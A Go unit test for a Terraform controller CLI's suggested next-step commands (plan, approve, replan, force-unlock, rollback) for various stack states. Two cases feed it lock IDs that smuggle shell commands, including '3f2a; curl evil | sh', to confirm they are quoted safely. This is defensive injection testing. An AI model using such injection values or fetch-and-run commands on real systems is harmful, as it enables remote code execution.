// Copyright The Yuba Authors
// SPDX-License-Identifier: Apache-2.0

package verbs

import (
	"fmt"
	"testing"

	"github.com/google/go-cmp/cmp"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	infrav1 "github.com/yuba-dev/yuba/api/infra/v1alpha2"
)

func TestNextSteps(t *testing.T) {
	waits := ready(metav1.ConditionUnknown, infrav1.ReasonPlannedWithChanges, "Plan generated")
	cases := map[string]struct {
		stack *infrav1.Terraform
		want  []string
	}{
		"all is well: nothing": {stackThat(ready(metav1.ConditionTrue, "X", "")), nil},
		"a plan waits: look at it, approve it": {stackThat(waits, pending("p1")),
			[]string{"yuba plan vpc", "yuba approve vpc p1"}},
		"the plan is approved already: nothing": {stackThat(waits, pending("p1"), func(t *infrav1.Terraform) { t.Spec.ApprovePlan = "p1" }), nil},
		"the plan may not be applied: nothing":  {stackThat(waits, pending("p1"), func(t *infrav1.Terraform) { t.Spec.PlanOnly = true }), nil},
		"the plan is rejected: another one": {stackThat(pending("p1"), func(t *infrav1.Terraform) {
			t.Annotations = map[string]string{infrav1.AnnotationRejected: "p1"}
		}), []string{"yuba replan vpc"}},
		"a plan waits although the mode is auto: look at it, approve it": {stackThat(waits, pending("p1"), func(t *infrav1.Terraform) {
			t.Spec.ApprovePlan, t.Status.Plan.HeldBy = infrav1.ApprovePlanAuto, "aws-down"
		}), []string{"yuba plan vpc", "yuba approve vpc p1"}},
		"a held plan is approved already: nothing": {stackThat(waits, pending("p1"), func(t *infrav1.Terraform) {
			t.Spec.ApprovePlan, t.Status.Plan.HeldBy = infrav1.ApprovePlanAuto, "aws-down"
			t.Annotations = map[string]string{infrav1.AnnotationApproved: "p1"}
		}), nil},
		"many fail alike: what that is, or try it all the same": {stackThat(ready(metav1.ConditionFalse, infrav1.ReasonPlanFailed, ""), lastRun("r1", "failed"), func(t *infrav1.Terraform) {
			t.Status.Conditions = append(t.Status.Conditions, metav1.Condition{Type: infrav1.ConditionPaused, Status: metav1.ConditionTrue})
		}), []string{"yuba get circuitbreakers", "yuba reconcile vpc"}},
		"a run is at work: watch it": {stackThat(func(t *infrav1.Terraform) { t.Status.CurrentRun = &infrav1.RunReference{ID: "r"} }),
			[]string{"yuba logs vpc -f"}},
		"suspended: resume it, whatever waits": {stackThat(pending("p1"), func(t *infrav1.Terraform) { t.Spec.Suspend = true }),
			[]string{"yuba resume vpc"}},
		"locked: unlock it, carefully": {stackThat(func(t *infrav1.Terraform) { t.Status.Lock.Pending = "3f2a" }),
			[]string{"yuba force-unlock vpc 3f2a    (only if the lock holder is gone)"}},
		"the holder names its lock: it is a word of the command": {stackThat(func(t *infrav1.Terraform) { t.Status.Lock.Pending = "3f2a; curl evil | sh" }),
			[]string{"yuba force-unlock vpc '3f2a; curl evil | sh'    (only if the lock holder is gone)"}},
		"a lock of a backend of its own is a word, too": {stackThat(func(t *infrav1.Terraform) { t.Spec.Cloud, t.Status.Lock.Pending = &infrav1.CloudSpec{}, "3'; id #" }),
			[]string{`yuba force-unlock vpc '3'\''; id #'    (only if the lock holder is gone)`}},
		"locked in a backend of its own: have it unlocked, carefully": {stackThat(func(t *infrav1.Terraform) {
			t.Spec.Cloud, t.Status.Lock.Pending = &infrav1.CloudSpec{}, "3f2a"
		}), []string{`yuba force-unlock vpc 3f2a    (only if the lock holder is gone)`}},
		"held for work by hand: work on it": {stackThat(ready(metav1.ConditionUnknown, infrav1.ReasonBreakTheGlass, "")), []string{"yuba shell vpc"}},
		"the state vanished: go back to a version": {stackThat(ready(metav1.ConditionFalse, infrav1.ReasonStateMissing, "")),
			[]string{"yuba state history vpc", "yuba state rollback vpc VERSION"}},
		"a run failed: its log, then another try": {stackThat(ready(metav1.ConditionFalse, infrav1.ReasonApplyFailed, ""), lastRun("r1", "failed")),
			[]string{"yuba logs vpc --run r1", "yuba replan vpc"}},
		"a reference to another namespace is refused: the flag that allows it": {stackThat(lastRun("r1", "failed"),
			ready(metav1.ConditionFalse, infrav1.ReasonAccessDenied, fmt.Sprintf(infrav1.MessageAccessDenied, "GitRepository", "platform", "iac"))), allowCrossNamespace},
		"so is one to a dependency": {stackThat(ready(metav1.ConditionFalse, infrav1.ReasonAccessDenied, fmt.Sprintf(infrav1.MessageDependencyDenied, "platform", "vpc"))), allowCrossNamespace},
		"so is one to a Secret":     {stackThat(ready(metav1.ConditionFalse, infrav1.ReasonAccessDenied, fmt.Sprintf(infrav1.MessageSecretDenied, "platform", "tfrc"))), allowCrossNamespace},
		"no flag allows what belongs to another tenant: the user knows": {stackThat(ready(metav1.ConditionFalse, infrav1.ReasonAccessDenied, `Secret team/x belongs to tenant "beta"`)), nil},
		"an input is missing: the user knows":                           {stackThat(ready(metav1.ConditionFalse, infrav1.ReasonVarsGenerationFailed, ""), lastRun("r1", "succeeded")), nil},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(c.want, NextSteps(c.stack, "vpc")); diff != "" {
				t.Error(diff)
			}
		})
	}
}
